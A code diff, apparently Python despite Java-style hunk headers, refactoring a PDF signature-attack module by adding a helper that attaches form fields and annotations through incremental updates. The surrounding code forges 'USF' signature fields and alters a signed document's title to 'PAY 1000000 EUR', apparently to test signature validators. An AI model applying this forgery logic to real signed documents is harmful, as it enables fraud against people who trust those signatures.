@@ -203,6 +203,30 @@ public enum PDFAttacks {
             ref.get_object()[pdf_name('/Title')] = generic.TextStringObject('PAY 1000000 EUR')
             writer.mark_update(ref)
 
+        def add_to_form_and_page(writer, field, page_ref, annots):
+            # Lists `field` in the form (made if missing) and `annots` on the page, marking what changed.
+            if '/AcroForm' not in writer.root:
+                writer.root[pdf_name('/AcroForm')] = DictionaryObject({pdf_name('/Fields'): ArrayObject([]),
+                                                                       pdf_name('/SigFlags'): NumberObject(3)})
+                writer.update_root()
+            form = writer.root['/AcroForm']
+            fields_ref = form.raw_get('/Fields')
+            form['/Fields'].append(field)
+            if isinstance(fields_ref, generic.IndirectObject):
+                writer.mark_update(fields_ref)
+            elif isinstance(writer.root.raw_get('/AcroForm'), generic.IndirectObject):
+                writer.mark_update(writer.root.raw_get('/AcroForm'))
+            else:
+                writer.update_root()
+            page = page_ref.get_object()
+            annots_ref = page.raw_get('/Annots') if '/Annots' in page else None
+            if isinstance(annots_ref, generic.IndirectObject):
+                annots_ref.get_object().extend(annots)
+                writer.mark_update(annots_ref)
+            else:
+                page[pdf_name('/Annots')] = ArrayObject(list(page.get('/Annots') or []) + annots)
+                writer.update_container(page)
+
         def forged_signature(writer, variant):
             # USF: a new signature field whose value has no /ByteRange, a [0 0 0 0] one, or no /Contents.
             page_ref = first_page(writer)[0]
@@ -220,24 +244,7 @@ public enum PDFAttacks {
                 pdf_name('/V'): writer.add_object(value), pdf_name('/Type'): pdf_name('/Annot'),
                 pdf_name('/Subtype'): pdf_name('/Widget'), pdf_name('/P'): page_ref,
                 pdf_name('/Rect'): ArrayObject([NumberObject(0)] * 4)}))
-            form_ref = writer.root.raw_get('/AcroForm')
-            form = form_ref.get_object()
-            fields_ref = form.raw_get('/Fields')
-            form['/Fields'].append(field)
-            if isinstance(fields_ref, generic.IndirectObject):
-                writer.mark_update(fields_ref)
-            elif isinstance(form_ref, generic.IndirectObject):
-                writer.mark_update(form_ref)
-            else:
-                writer.update_root()
-            page = page_ref.get_object()
-            annots_ref = page.raw_get('/Annots') if '/Annots' in page else None
-            if isinstance(annots_ref, generic.IndirectObject):
-                annots_ref.get_object().append(field)
-                writer.mark_update(annots_ref)
-            else:
-                page[pdf_name('/Annots')] = ArrayObject(list(page.get('/Annots') or []) + [field])
-                writer.update_container(page)
+            add_to_form_and_page(writer, field, page_ref, [field])
 
         def prepare_contents_array(writer):
             # Before signing: the first page's /Contents becomes an indirect array [stream].
